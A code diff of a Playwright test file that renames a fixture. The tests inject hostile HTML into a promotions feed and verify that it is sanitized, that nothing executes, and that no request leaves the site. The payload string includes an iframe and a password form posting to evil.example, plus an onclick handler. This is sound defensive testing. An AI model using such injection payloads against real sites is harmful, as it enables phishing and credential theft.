@@ -1,5 +1,5 @@
 import { hostileContent } from '../../tests/support/hostile-content.ts';
-import { expect, openSite, test } from '../support/house.ts';
+import { expect, openSite, test } from '../support/test-environment.ts';
 
 /** What an operator's editor, or whoever got at it, might send. */
 const hostile = `
@@ -13,13 +13,16 @@ const hostile = `
   <iframe src="https://evil.example/"></iframe><form action="https://evil.example"><input name="password"></form>
   <style>body { display: none }</style><b onclick="window.broken = 'click'">bold`;
 
-test('PR-1 hostile content shows its harmless part, and nothing of it runs', async ({ page, house }) => {
+test('PR-1 hostile content shows its harmless part, and nothing of it runs', async ({
+  page,
+  environment,
+}) => {
   await page.route('**/MCSFE_getPromotions*', async (route) => {
     const answer = await (await route.fetch()).json();
     answer.value.promotions[0].content = hostile;
     await route.fulfill({ json: answer });
   });
-  await openSite(page, house, '/m/activity');
+  await openSite(page, environment, '/m/activity');
   await page.getByText('More').first().click();
   const content = page.locator('.html').first();
   await expect(content.getByText('Friday terms')).toBeVisible();
@@ -37,7 +40,7 @@ test('PR-1 hostile content shows its harmless part, and nothing of it runs', asy
   await expect(terms).toHaveCSS('position', 'static');
   await expect(terms).toHaveCSS('background-image', 'none');
   // Not even the policy has anything to say.
-  expect(house.problems).toEqual([]);
+  expect(environment.problems).toEqual([]);
 
   await content.getByRole('link', { name: 'hot games' }).click();
   await page.waitForURL('**/m/hot-games');
@@ -46,7 +49,7 @@ test('PR-1 hostile content shows its harmless part, and nothing of it runs', asy
 
 test('PR-1 whatever the content tries, nothing runs, loads, leaves its place or offends the policy', async ({
   page,
-  house,
+  environment,
 }) => {
   const samples = Object.entries(hostileContent);
   await page.route('**/MCSFE_getPromotions*', async (route) => {
@@ -59,9 +62,9 @@ test('PR-1 whatever the content tries, nothing runs, loads, leaves its place or 
   });
   const outside: string[] = [];
   page.on('request', (request) => {
-    if (!request.url().startsWith(house.demo.origin)) outside.push(request.url());
+    if (!request.url().startsWith(environment.demo.origin)) outside.push(request.url());
   });
-  await openSite(page, house, '/m/activity');
+  await openSite(page, environment, '/m/activity');
   await page.locator('.promotion').first().waitFor();
   const found = await page.evaluate(async (count) => {
     const faults: string[] = [];
@@ -101,6 +104,6 @@ test('PR-1 whatever the content tries, nothing runs, loads, leaves its place or 
   }, samples.length);
   expect(found).toEqual([]);
   expect(outside).toEqual([]);
-  expect(house.problems).toEqual([]);
+  expect(environment.problems).toEqual([]);
   expect(new URL(page.url()).pathname).toMatch(/^\/m\//);
 });
